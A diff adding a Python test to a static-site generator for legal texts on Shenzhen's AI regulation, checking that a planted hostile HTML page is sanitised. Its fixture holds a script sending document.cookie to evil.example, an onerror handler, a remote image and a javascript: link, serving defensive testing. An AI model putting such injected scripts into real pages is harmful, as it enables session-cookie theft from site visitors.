@@ -146,3 +146,70 @@ def test_manifest_pointing_at_a_missing_file(root):
     assert_refused(root, before,
                    f"source/manifest.yaml:{line}: error: source file 'source/000_gone.txt' does not exist — "
                    "copy the raw file into source/ byte for byte, or correct the file name")
+
+
+HOSTILE = """<html><body>
+<p>《条例》第四十四条允许低风险人工智能产品先行先试。</p>
+<script>document.location='https://evil.example/?c='+document.cookie</script>
+<p><img src="https://evil.example/pixel.png" onerror="alert(1)">据报道，深圳将设立伦理委员会。</p>
+<p><a href="javascript:alert(2)" onclick="steal()">详情</a>见第六十五条。</p>
+</body></html>
+"""
+
+
+def test_commentary_page_with_scripts_handlers_javascript_links_and_remote_images(root):
+    (root / "source" / "005_hostile.html").write_text(HOSTILE, encoding="utf-8")
+    digest = hashlib.sha256(HOSTILE.encode()).hexdigest()
+    manifest = root / "source" / "manifest.yaml"
+    text = manifest.read_text(encoding="utf-8")
+    text = text.replace("\nsources:\n", """
+  hostile-report:
+    kind: news
+    statute: shenzhen-ai-2022
+    title: 被篡改的报道
+    publisher: 某网站
+    date: 2022-09-07
+
+sources:
+""", 1)
+    text += f"""
+  - file: 005_hostile.html
+    sha256: {digest}
+    format: html
+    parts:
+      - id: report
+        kind: news
+        document: hostile-report
+        statute: shenzhen-ai-2022
+        language: zh-Hans
+        title: 被篡改的报道
+"""
+    manifest.write_text(text, encoding="utf-8")
+    out = build(root)
+    assert out.returncode == 0, out.stderr      # the site can be correct: only text is kept
+    out = subprocess.run([sys.executable, "-m", "generator", "--root", str(root), "check", "-v"],
+                         capture_output=True, text=True)
+    lines = out.stderr.splitlines()
+    for expected in (
+            "source/005_hostile.html:3: warning: removed <script> element: executable content is never published",
+            "source/005_hostile.html:4: warning: removed event handler onerror= on <img>",
+            "source/005_hostile.html:4: warning: removed remote resource <img src=\"https://evil.example/pixel.png\">: "
+            "the site never loads anything from another host",
+            "source/005_hostile.html:5: warning: removed javascript: URL in <a href>; only the link text is kept",
+            "source/005_hostile.html:5: warning: removed event handler onclick= on <a>"):
+        assert expected in lines, (expected, out.stderr)
+    site = root / "site"
+    pages = [p.read_text(encoding="utf-8") for p in site.rglob("*.html")]
+    doc_page = (site / "commentary" / "hostile-report" / "index.html").read_text(encoding="utf-8")
+    assert "据报道，深圳将设立伦理委员会。" in doc_page
+    for page in pages:
+        soup = BeautifulSoup(page, "html.parser")
+        for tag in soup.find_all(True):
+            for attr, value in tag.attrs.items():
+                value = " ".join(value) if isinstance(value, list) else str(value)
+                assert "evil.example" not in value and not value.lower().startswith("javascript:"), tag
+                assert not (attr.startswith("on") and ("alert" in value or "steal" in value)), tag
+        for script in soup.find_all("script"):
+            assert "evil.example" not in script.get_text() and "steal()" not in script.get_text()
+    a44 = (site / SHENZHEN / "article-44" / "index.html").read_text(encoding="utf-8")
+    assert "被篡改的报道" in a44                       # linked (through its citation), as text
